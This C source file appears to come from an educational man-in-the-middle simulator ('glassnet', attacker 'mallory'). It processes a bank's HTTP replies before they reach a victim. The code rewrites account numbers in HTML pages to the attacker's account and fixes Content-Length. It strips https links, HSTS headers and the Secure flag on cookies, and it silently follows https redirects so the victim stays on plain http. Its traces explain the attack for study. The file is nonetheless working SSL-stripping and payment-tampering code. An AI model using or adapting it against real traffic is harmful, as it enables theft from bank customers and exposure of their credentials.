/* What becomes of the bank's reply: changed, stripped, or passed on. */
#include <stdio.h>
#include <string.h>

#include "glassnet/proto/http.h"

#include "exchange_parts.h"

/* Where the reply is no longer what the bank sent. */
static void describe_changes(struct exchange *x)
{
	static const char layer[] = "Changed on the way";
	const uint8_t *p = x->to_victim.data;
	size_t len = x->to_victim.len, off, n, at;
	char meaning[128], length[24];
	struct http_header hd;
	struct http h;

	if (!trace_on(x->trace) || http_parse(&h, p, len, &at) != ERR_OK)
		return;
	snprintf(meaning, sizeof meaning, "%s wrote %s", x->names.bank, x->changed.before);
	for (size_t pos = h.body_off; account_find(p, len, pos, &off, &n); pos = off + n)
		if (n == strlen(MALLORY_ACCOUNT) && memcmp(p + off, MALLORY_ACCOUNT, n) == 0)
			ev_field(
			    x->trace, (struct ev_field){.layer = layer,
			                  .name = "account number",
			                  .value = MALLORY_ACCOUNT,
			                  .meaning = x->changed.changed == 1 ? meaning : "another one stood here",
			                  .off = off,
			                  .len = n});
	if (!h.has_length || !http_header_find(&h, p, "Content-Length", &hd))
		return;
	snprintf(meaning, sizeof meaning, "%s wrote %zu: the page has another length now, and its head has to say so",
	    x->names.bank, x->body_before);
	snprintf(length, sizeof length, "%.*s", (int)hd.value.len, (const char *)p + hd.value.off);
	ev_field(x->trace, (struct ev_field){.layer = layer,
	                       .name = "Content-Length",
	                       .value = length,
	                       .meaning = meaning,
	                       .off = hd.value.off,
	                       .len = hd.value.len});
}

/* May this reply be changed? Only a page in plain text form: everything else would be broken by it. */
static bool is_page(const struct http *h, const uint8_t *p)
{
	struct http_header hd;
	if (h->chunked || http_header_find(h, p, "Content-Encoding", &hd) ||
	    http_header_find(h, p, "Transfer-Encoding", &hd) || !http_header_find(h, p, "Content-Type", &hd))
		return false;
	static const char html[] = "text/html";
	return hd.value.len >= sizeof html - 1 &&
	       http_span_is_nocase(p, (struct http_span){hd.value.off, sizeof html - 1}, html);
}

/* The page has grown or shrunk: its head has to say so. */
static enum err correct_length(struct exchange *x, size_t before)
{
	struct http h;
	struct http_header hd;
	size_t at;
	if (http_parse(&h, x->to_victim.data, x->to_victim.len, &at) != ERR_OK ||
	    x->to_victim.len - h.body_off == before || !h.has_length ||
	    !http_header_find(&h, x->to_victim.data, "Content-Length", &hd))
		return ERR_OK;
	char length[24];
	int n = snprintf(length, sizeof length, "%zu", x->to_victim.len - h.body_off);
	return buf_replace(&x->to_victim, hd.value.off, hd.value.len, length, (size_t)n);
}

static enum err change_accounts(struct exchange *x)
{
	struct http h;
	size_t at, before = x->to_victim.len;
	enum err e = http_parse(&h, x->to_victim.data, x->to_victim.len, &at);
	if (!e)
		e = rewrite_page(&x->to_victim, h.body_off, &x->changed);
	if (e || x->changed.changed == 0)
		return e;
	ev_state(x->trace, "page", "account number", x->changed.before, MALLORY_ACCOUNT,
	    "connection %u: %u changed in the reply to %s; the page grows from %zu to %zu octets and its "
	    "Content-Length with it",
	    x->connection, x->changed.changed, x->line, before - h.body_off, x->to_victim.len - h.body_off);
	return ERR_OK;
}

static bool is_stripped(const struct strip_report *s)
{
	return s->links + s->headers + s->cookies > 0;
}

static void say_stripped(struct exchange *x)
{
	const struct strip_report *s = &x->stripped;
	char links[STRIP_HOST_MAX + 64] = "";

	if (s->links)
		snprintf(
		    links, sizeof links, " %u link%s to https (%s)", s->links, s->links == 1 ? "" : "s", s->link);
	ev_decision(x->trace, "stripped", "RFC 6797 2.3.1",
	    "connection %u: taken from the reply before the victim sees it:%s%s%s%s%s", x->connection, links,
	    s->links && s->headers ? "," : "", s->headers ? " Strict-Transport-Security" : "",
	    s->cookies && (s->links || s->headers) ? "," : "", s->cookies ? " the word Secure of its cookies" : "");
}

static enum err strip(struct exchange *x, bool page)
{
	enum err e = strip_reply(&x->to_victim, x->names.bank, page, &x->stripped);
	if (!e && is_stripped(&x->stripped))
		say_stripped(x);
	return e;
}

static enum err change_page(struct exchange *x, const struct http *h)
{
	size_t before = x->to_victim.len - h->body_off;
	x->body_before = before;
	enum err e = x->strip ? strip(x, true) : ERR_OK;
	if (!e && x->rewrite)
		e = change_accounts(x);
	return e ? e : correct_length(x, before);
}

static void note_reply(struct exchange *x, const struct http *h, size_t len)
{
	snprintf(x->status, sizeof x->status, "%u", h->status);
	char label[64];
	snprintf(label, sizeof label, "reply %u", h->status);
	exchange_tell(x, false, x->names.bank, label, x->to_victim.data, len, false);
	exchange_describe(x, x->to_victim.data, len);
}

static void note_sent(struct exchange *x)
{
	char label[64];
	bool tampered = x->changed.changed > 0 || is_stripped(&x->stripped);
	snprintf(label, sizeof label, "reply %s%s", x->status, tampered ? ", changed" : "");
	exchange_tell(x, true, x->names.victim, label, x->to_victim.data, x->to_victim.len, tampered);
	if (x->changed.changed)
		describe_changes(x);
	exchange_describe(x, x->to_victim.data, x->to_victim.len);
}

/* The bank wants the same request again, by https. The victim is not told. */
static void ask_again(struct exchange *x)
{
	struct http h;
	size_t at;

	ev_decision(x->trace, "redirect-kept", "RFC 6797 2.3.1",
	    "connection %u: %s wants this request by https. mallory puts it there itself, as an honest client does; "
	    "the "
	    "victim "
	    "is not told, and stays with http",
	    x->connection, x->host);
	ev_explain(x->trace,
	    "A name without https:// is asked for over http. That the bank wants https is an answer over "
	    "http, too, and whoever carries it can leave it out. Only who knows it beforehand (HSTS) never "
	    "asks over http.");
	x->secure = x->again = x->kept = true;
	x->bank_ended = x->reply_begun = false;
	buf_release(&x->to_victim);
	buf_release(&x->to_bank);
	enum err e = http_parse(&h, x->request.data, x->request.len, &at);
	if (!e)
		e = exchange_pass_request(x, &h);
	if (e) {
		x->again = false;
		exchange_refuse(x, e, "500 Internal Server Error", "the request does not fit");
		return;
	}
	exchange_tell(x, true, x->names.bank, x->line, x->to_bank.data, x->to_bank.len, false);
}

/* Is the redirect's target what was asked for, only by https? */
static bool is_same_place(const struct exchange *x, const struct http *reply, const struct strip_link *l)
{
	struct http h;
	struct http_header hd;
	size_t at;

	if (strcmp(l->host, x->host) != 0 || http_parse(&h, x->request.data, x->request.len, &at) != ERR_OK ||
	    !http_header_find(reply, x->to_victim.data, "Location", &hd))
		return false;
	struct http_span path = {hd.value.off + l->len, hd.value.len - l->len};
	if (path.len == 0)
		return http_span_is(x->request.data, h.target, "/");
	return path.len == h.target.len &&
	       memcmp(x->to_victim.data + path.off, x->request.data + h.target.off, path.len) == 0;
}

/* True when the reply is dealt with. */
static bool keep_redirect(struct exchange *x, const struct http *h)
{
	struct strip_link l;

	if (!x->strip || x->secure || !strip_is_redirect(h, x->to_victim.data, x->names.bank, &l))
		return false;
	strip_remember(x->strip, l.host);
	if (!is_same_place(x, h, &l))
		return false; /* the victim goes there by http, and mallory by https */
	note_reply(x, h, x->to_victim.len);
	ask_again(x);
	return true;
}

/* What is no page passes as it comes; stripped, it lacks a word in its head. */
static void pass_reply(struct exchange *x, const struct http *h, bool ended)
{
	if (h)
		note_reply(x, h, x->to_victim.len);
	if (h && x->strip && strip(x, false) != ERR_OK) {
		exchange_refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed reply does not fit\n");
		return;
	}
	note_sent(x);
	x->state = ended ? EXCHANGE_DONE : EXCHANGE_PASS;
}

/* Decides what becomes of the held reply; ended: no more of it comes. */
static void look_at_reply(struct exchange *x, bool ended)
{
	struct http h;
	size_t at;
	struct buf *reply = &x->to_victim;
	enum err e = http_parse(&h, reply->data, reply->len, &at);
	if (e == ERR_TRUNCATED && !ended && reply->len < EXCHANGE_HEAD_MAX)
		return;
	bool is_reply = !e && h.response, full = buf_room(reply) < sizeof MALLORY_ACCOUNT;
	if (is_reply && keep_redirect(x, &h))
		return;
	if (!is_reply || !(x->rewrite || x->strip) || !is_page(&h, reply->data) || full) {
		pass_reply(x, is_reply ? &h : NULL, ended);
		return;
	}
	bool whole = ended || (h.has_length && reply->len - h.body_off >= h.content_length);
	if (!whole)
		return;
	note_reply(x, &h, reply->len);
	if (change_page(x, &h))
		exchange_refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed page does not fit\n");
	else
		note_sent(x);
	x->state = EXCHANGE_DONE;
}

void exchange_from_bank(struct exchange *x)
{
	x->reply_begun = true;
	if (x->state == EXCHANGE_REPLY)
		look_at_reply(x, false);
}

void exchange_bank_end(struct exchange *x)
{
	x->bank_ended = true;
	if (x->state == EXCHANGE_REPLY)
		look_at_reply(x, true);
	else if (!x->blind || x->victim_ended)
		x->state = EXCHANGE_DONE;
}
